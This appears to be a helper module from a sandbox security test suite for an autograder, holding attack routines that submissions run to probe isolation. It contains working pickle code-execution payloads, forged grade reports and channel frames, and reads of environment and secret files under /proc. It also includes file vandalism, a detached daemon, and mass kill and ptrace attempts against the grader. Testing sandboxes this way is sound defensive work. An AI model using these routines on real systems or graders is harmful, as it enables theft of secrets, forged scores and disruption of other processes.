"""What the attack submissions share: copied next to each attacking step module.

``TARGETS`` (written by the test next to this file, as ``attack_targets.py``) names what an
attacker is assumed to know: where the canaries, the other learner, the kit and the grader's
outputs are. Every helper swallows its own errors: an attack tries everything it can.
"""

import glob
import json
import os
import struct
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
try:
    from attack_targets import TARGETS
except ImportError:  # pragma: no cover - graded without the test's generator
    TARGETS = {}

FORGED_REPORT = {"points": 123, "max_points": 123, "steps": []}


def frame(message: dict) -> bytes:
    """A frame as the kit's channel writes it (4-byte length, JSON)."""
    data = json.dumps(message).encode()
    return struct.pack("!I", len(data)) + data


FORGED = [frame({}), frame({"ready": True}), frame({"returned": None}),
          frame({"output": "forged"})]


class _Runs:
    """Pickled, it makes the ``pwned`` marker wherever it is unpickled (no program needed)."""

    def __reduce__(self):
        return (os.mkdir, (TARGETS.get("pwned", "/tmp/pwned"),))


def forged_requests() -> list:
    """Requests as the grading process sends them to the checker that runs the checks (4-byte
    length, then the request): pickled code, and JSON naming a function that makes the marker."""
    import pickle

    named = {"module": "os", "qualname": "mkdir",
             "kwargs": {"path": TARGETS.get("pwned", "/tmp/pwned")},
             "timeout": 5, "leaves_mounts": False, "cwd": "/", "umask": 18, "env": {}}
    found = [pickle.dumps(_Runs()), json.dumps(named).encode()]
    return [struct.pack("!I", len(data)) + data for data in found]


def attempt(what, *args, **kwargs):
    """Call ``what`` and return its result, or the exception it raised (as text)."""
    try:
        return what(*args, **kwargs)
    except BaseException as exc:  # noqa: B036 - an attack goes on whatever happens
        return f"{type(exc).__name__}: {exc}"


def write(path: str, text: str = "owned by an attack\n", mode: str = "w") -> object:
    def go():
        with open(path, mode + ("b" if isinstance(text, bytes) else "")) as f:
            f.write(text)
        return "written"
    return attempt(go)


def read(path: str) -> str:
    def go():
        with open(path, "rb") as f:
            return f.read(1 << 16).decode(errors="replace")
    result = attempt(go)
    return result if isinstance(result, str) else repr(result)


def spray_fds(frames=FORGED, top: int = 1024) -> None:
    """Write forged frames on every descriptor number that might be a channel."""
    for fd in range(top):
        for data in frames:
            attempt(os.write, fd, data)


def secret_paths() -> list[str]:
    """Every file whose content the grader must keep from a submission."""
    kit = TARGETS.get("kit", "")
    found = list(TARGETS.get("canaries", []))
    for pattern in ("solutions/*/*.py", "instructor/*/*.py", "solutions/*/*.txt",
                    "instructor/*/*.txt"):
        # By the kit's path, and relative to the working directory the process started in.
        for base in (kit, "", "/proc/self/cwd", "/proc/1/cwd"):
            found += glob.glob(os.path.join(base, pattern))
    found += glob.glob(os.path.join(TARGETS.get("other_learner", "/nonexistent"), "**", "*"),
                       recursive=True)
    found += ["/proc/1/environ", "/proc/self/environ", f"/proc/{os.getppid()}/environ"]
    found += glob.glob("/proc/[0-9]*/environ")
    for base in ("/proc/self/root", "/proc/1/root", "/proc/1/cwd"):
        found += [base + p for p in TARGETS.get("canaries", [])]
    return found


def loot() -> str:
    """The secrets this process can read, shortest and best first (feedback is clipped)."""
    found = []
    for path in secret_paths():
        text = read(path)
        if not text.startswith(("FileNotFoundError", "PermissionError", "NotADirectoryError")):
            found.append(f"== {path}: {text[:300]!r}")
    found.sort(key=lambda line: ("canary" not in line, "instructor" not in line, len(line)))
    return "\n".join(found + [f"ENV {dict(os.environ)!r}"])


def outputs() -> list[str]:
    """The grader's own output files an attacker could guess."""
    found = list(TARGETS.get("outputs", []))
    for top in ("/tmp", "/var/tmp", TARGETS.get("workdir", "/tmp")):
        for name in ("report.json", "live.json", "junit.xml", "stdout.txt", "stderr.txt"):
            found += glob.glob(os.path.join(top, "mountlab-*", "out", name))
            found += glob.glob(os.path.join(top, "mountlab-*", "mountlab-*", "out", name))
    return found


def overwrite_outputs() -> list:
    forged = json.dumps(FORGED_REPORT)
    return [(p, write(p, forged)) for p in outputs()]


def vandalise() -> list:
    """Change every file outside scratch it can name, in every way it can."""
    done = []
    for path in TARGETS.get("canaries", []) + TARGETS.get("plant", []):
        done.append((path, write(path, "vandalised\n")))
        done.append((path, attempt(os.chmod, path, 0o777)))
        done.append((path, attempt(os.unlink, path)))
        for base in ("/proc/self/root", "/proc/1/root", "/proc/1/cwd/"):
            done.append((base + path, write(base + path, "vandalised\n")))
    kit = TARGETS.get("kit", "")
    for rel in ("mountlab/__init__.py", "steps/01/test_setup_volume.py", "owned-by-attack"):
        done.append((rel, write(os.path.join(kit, rel), "raise SystemExit('owned')\n", "a")))
    return done


def daemon(seconds: str) -> None:
    """A double-forked, setsid daemon that runs ``sleep seconds`` (a number the test looks for
    on the host afterwards)."""
    pid = os.fork()
    if pid:
        attempt(os.waitpid, pid, 0)
        return
    try:
        os.setsid()
        if os.fork():
            os._exit(0)
        for fd in range(3):
            attempt(os.close, fd)
        os.execv("/bin/sleep", ["sleep", seconds])
    finally:
        os._exit(0)


# -- signals and ptrace aimed at the grader (signals_ptrace) -------------------------------------

def _confined() -> bool:
    """kill(-1) as the host's root would stop every process of this machine: only fire when the
    sandbox's user namespace is in place (the output says so otherwise, and the test fails)."""
    with open("/proc/self/uid_map") as f:
        if "4294967295" in f.read():
            print("ATTACK RAN UNCONFINED")
            return False
    return True


def strike_the_grader() -> list:
    """kill(-1), killpg(0), a kill of every pid it can name (the ones /proc lists and every number
    below pid_max, at most 100000, the test's own pid included), pidfd signals, PTRACE_ATTACH and
    PTRACE_SEIZE on each: what it reached (nothing, when the sandbox holds)."""
    import ctypes
    import signal

    libc = ctypes.CDLL(None, use_errno=True)
    ptrace_attach, ptrace_seize = 16, 0x4206
    reached = []
    if not _confined():
        return reached
    me = os.getpid()
    pids = {int(p) for p in os.listdir("/proc") if p.isdigit()} | set(range(1, _pid_max()))
    pids |= set(TARGETS.get("pids", []))
    pids.discard(me)
    for sig in (signal.SIGKILL, signal.SIGSTOP, signal.SIGTERM):
        if attempt(os.kill, -1, sig) is None:
            reached.append(("kill(-1)", sig))
    for pid in sorted(pids):
        for sig in (signal.SIGKILL, signal.SIGSTOP):
            if attempt(os.kill, pid, sig) is None:
                reached.append((pid, sig))
        if pid < 2000:
            if libc.ptrace(ptrace_attach, pid, 0, 0) == 0:
                reached.append((pid, "ptrace"))
            if libc.ptrace(ptrace_seize, pid, 0, 0) == 0:
                reached.append((pid, "seize"))
            fd = attempt(os.pidfd_open, pid)
            if isinstance(fd, int):
                attempt(signal.pidfd_send_signal, fd, signal.SIGKILL)
    _strike_own_group()
    return reached


def _pid_max() -> int:
    """No process can have a pid from pid_max on: killing those numbers reaches nothing."""
    try:
        with open("/proc/sys/kernel/pid_max") as f:
            return min(int(f.read()), 100_000)
    except (OSError, ValueError):
        return 100_000


def _strike_own_group() -> None:
    """SIGKILL to the process group this process was started in (killpg(0) reaches every process
    of the group, in whatever pid namespace, that this uid may signal), from a child left in it,
    while this process moves to a group of its own so as not to kill itself."""
    import signal
    import time

    child = os.fork()
    if child == 0:
        time.sleep(0.2)  # the parent has left the group by now
        attempt(os.killpg, 0, signal.SIGKILL)
        os._exit(0)
    attempt(os.setpgid, 0, 0)
    attempt(os.waitpid, child, 0)
